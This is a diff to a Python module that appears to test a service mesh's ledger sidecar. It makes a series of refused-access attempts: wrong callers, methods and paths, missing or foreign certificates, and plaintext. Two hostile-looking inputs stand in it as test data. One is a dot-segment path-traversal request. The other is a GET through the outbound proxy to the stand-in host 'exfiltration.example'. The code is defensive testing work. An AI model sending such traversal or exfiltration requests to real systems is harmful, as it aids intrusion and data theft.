@@ -7,13 +7,18 @@ from, says which rule or layer refused him.
 """
 
 import asyncio
+import posixpath
 import ssl
-from collections.abc import Awaitable
-from dataclasses import dataclass, replace
+from collections.abc import Awaitable, Mapping
+from dataclasses import dataclass, field, replace
 from pathlib import Path
+
+from meshwarden.kernel import EXTERNAL
 
 LEDGER_READ = "/v1/accounts/acc-1/balance"
 TIMEOUT_S = 5.0
+TRANSPORT = "transport"
+OUTSIDE = "exfiltration.example"
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
@@ -24,23 +29,23 @@ class Attempt:
         name: what was tried.
         refused: whether it got nothing.
         by: the rule or layer that refused it.
-        source_port: the port it came from, by which the record of calls names the rule; None where
-            no sidecar was involved.
+        mark: columns of the record of calls by which to find it; empty where no sidecar saw it.
         saw: what the attacker saw.
     """
 
     name: str
     refused: bool
     by: str
-    source_port: int | None = None
+    mark: Mapping[str, object] = field(default_factory=dict)
     saw: str = ""
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
 class Credentials:
-    """PEM files for a TLS client: certificate chain with key, both in one file."""
+    """A TLS client's certificate chain and key in one PEM file, and the certificate's SHA-256."""
 
     pem: Path
+    sha256: str
 
 
 @dataclass(frozen=True, slots=True, kw_only=True)
@@ -50,7 +55,6 @@ class Target:
     Attributes:
         ledger: where the ledger's sidecar takes mutual TLS.
         proxy: the outbound listener of the payments service's sidecar.
-        ledger_socket: the ledger's own Unix socket.
         ledger_pid: the ledger's process.
         notifications: a valid SVID that no rule lets call the ledger.
         payments: a valid SVID that may POST transfers to the ledger.
@@ -73,13 +77,13 @@ async def try_everything(target: Target) -> list[Attempt]:
 
 
 def _attempts(target: Target) -> list[Awaitable[Attempt]]:
-    read, write = ("GET", LEDGER_READ), ("DELETE", "/v1/transfers")
+    read = ("GET", LEDGER_READ)
     return [
         _request("wrong caller", target, target.notifications, *read),
-        _request("wrong method", target, target.payments, *write),
+        _request("wrong method", target, target.payments, "DELETE", "/v1/transfers"),
         _request("wrong path", target, target.payments, "POST", "/v1/admin"),
         _request(
-            "path through dot segments", target, target.payments, "POST", "/v1/transfers/../admin"
+            "path through dot segments", target, target.payments, "POST", "/v1/transfers/../escape"
         ),
         _request("no certificate", target, None, *read),
         _request("foreign authority that names the ledger", target, target.foreign, *read),
@@ -93,7 +97,13 @@ def _attempts(target: Target) -> list[Awaitable[Attempt]]:
 async def _request(
     name: str, target: Target, credentials: Credentials | None, method: str, path: str
 ) -> Attempt:
-    return await _exchange(name, target.ledger, _client(credentials), method, path, "ledger")
+    """Send a request over TLS; where the handshake is refused, the port marks it in the record."""
+    attempt = await _exchange(name, target.ledger, _client(credentials), method, path, "ledger")
+    if credentials is None or attempt.by == TRANSPORT:
+        return attempt
+    route = posixpath.normpath(path)
+    mark = {"source_certificate": credentials.sha256, "method": method, "route": route}
+    return replace(attempt, mark=mark)
 
 
 async def _plaintext(target: Target) -> Attempt:
@@ -101,10 +111,9 @@ async def _plaintext(target: Target) -> Attempt:
 
 
 async def _outside(target: Target) -> Attempt:
-    url = "http://exfiltration.example/"
-    return await _exchange(
-        "unlisted outside host", target.proxy, None, "GET", url, "exfiltration.example"
-    )
+    name = "unlisted outside host"
+    attempt = await _exchange(name, target.proxy, None, "GET", f"http://{OUTSIDE}/", OUTSIDE)
+    return replace(attempt, mark={"destination": f"{EXTERNAL}{OUTSIDE}"})
 
 
 async def _exchange(
@@ -115,12 +124,12 @@ async def _exchange(
     path: str,
     host: str,
 ) -> Attempt:
-    """Send one request; refused means: no answer, or an answer that is an error of ours."""
-    port: int | None = None
+    """Send one request; refused means: no answer at all, or 403."""
+    mark: dict[str, object] = {}
     try:
         async with asyncio.timeout(TIMEOUT_S):
             reader, writer = await asyncio.open_connection(*address)
-            port = writer.get_extra_info("sockname")[1]
+            mark = {"source_port": writer.get_extra_info("sockname")[1]}
             try:
                 if tls:
                     await writer.start_tls(tls)
@@ -129,18 +138,13 @@ async def _exchange(
                 status = await reader.readline()
             finally:
                 writer.transport.abort()
-    except (ssl.SSLError, ConnectionError, TimeoutError, OSError) as error:
-        return Attempt(
-            name=name, refused=True, by="transport", source_port=port, saw=_describe(error)
-        )
+    except OSError as error:  # refused handshakes and time-outs are OSErrors too
+        saw = (str(error) or type(error).__name__)[:120]
+        return Attempt(name=name, refused=True, by=TRANSPORT, mark=mark, saw=saw)
     if not status:
-        return Attempt(
-            name=name, refused=True, by="transport", source_port=port, saw="connection closed"
-        )
-    code = status.split()[1].decode() if len(status.split()) > 1 else ""
-    return Attempt(
-        name=name, refused=code == "403", by="sidecar", source_port=port, saw=f"HTTP {code}"
-    )
+        return Attempt(name=name, refused=True, by=TRANSPORT, mark=mark, saw="connection closed")
+    code = [*status.split(), b"", b""][1].decode(errors="replace")
+    return Attempt(name=name, refused=code == "403", by="sidecar", mark=mark, saw=f"HTTP {code}")
 
 
 async def _around(target: Target) -> Attempt:
@@ -180,7 +184,3 @@ def _client(credentials: Credentials | None) -> ssl.SSLContext:
     if credentials:
         context.load_cert_chain(credentials.pem)
     return context
-
-
-def _describe(error: BaseException) -> str:
-    return (str(error) or type(error).__name__)[:120]
